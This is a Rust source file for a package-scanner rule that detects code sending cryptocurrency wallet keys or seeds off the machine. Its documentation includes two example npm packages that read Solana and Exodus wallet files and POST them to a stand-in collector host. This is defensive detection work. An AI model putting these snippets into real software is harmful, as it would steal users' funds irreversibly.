//! # Wallet files leave the machine
//!
//! A wallet's key file, seed or database reaches a request, a look-up or a command that sends.
//!
//! ## Why it matters
//!
//! Whoever has the file has the coins, and nobody can take them back.
//!
//! ## Known benign uses
//!
//! Tools of a chain read the key file when they are called, sign on the machine, and send the signed
//! transaction to an interface of the chain.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const fs = require("fs"), os = require("os"), https = require("https");
//! fs.readFile(os.homedir() + "/.config/solana/id.json", "utf8", (error, key) => {
//!   if (error) return;
//!   const request = https.request("https://collector.invalid/w", { method: "POST" });
//!   request.end(Buffer.from(key).toString("hex")); //~ here
//! });
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const fs = require("fs"), os = require("os"), path = require("path");
//! exports.sync = async () => {
//!   const seed = fs.readFileSync(path.join(os.homedir(), "AppData/Roaming/Exodus/exodus.wallet/seed.seco"));
//!   await fetch("https://collector.invalid/s", { method: "POST", body: seed }); //~ here
//! };
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "bin": {"x": "cli.js"}}
//! == cli.js
//! const fs = require("fs"), os = require("os");
//! const key = JSON.parse(fs.readFileSync(os.homedir() + "/.config/solana/id.json", "utf8"));
//! const signed = require("tweetnacl").sign(Buffer.from(process.argv[2]), Uint8Array.from(key));
//! fetch("https://api.mainnet-beta.solana.com", { method: "POST", body: Buffer.from(signed).toString("base64") });
//! ```
//!
//! ## References
//!
//! - SlowMist: StubMaker (August 2026)

use crate::prelude::*;

/// Wallet files leave the machine.
pub struct WalletFileSent;

impl Rule for WalletFileSent {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "wallet-file-sent",
            title: "Wallet files leave the machine",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1657",
            covers: &["collect-wallet-files", "collect-wallet-extensions"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for flow in
            facts.flows(|source| *source == Source::SecretFile(FileClass::Wallet), Sink::leaves_machine)
        {
            let is_chain = flow.sink.host().is_some_and(|host| host.class() == HostClass::Chain);
            if facts.goes_unsaid(flow) && (flow.trigger.runs_unasked() || !is_chain) {
                found.flow(flow);
            }
        }
    }
}
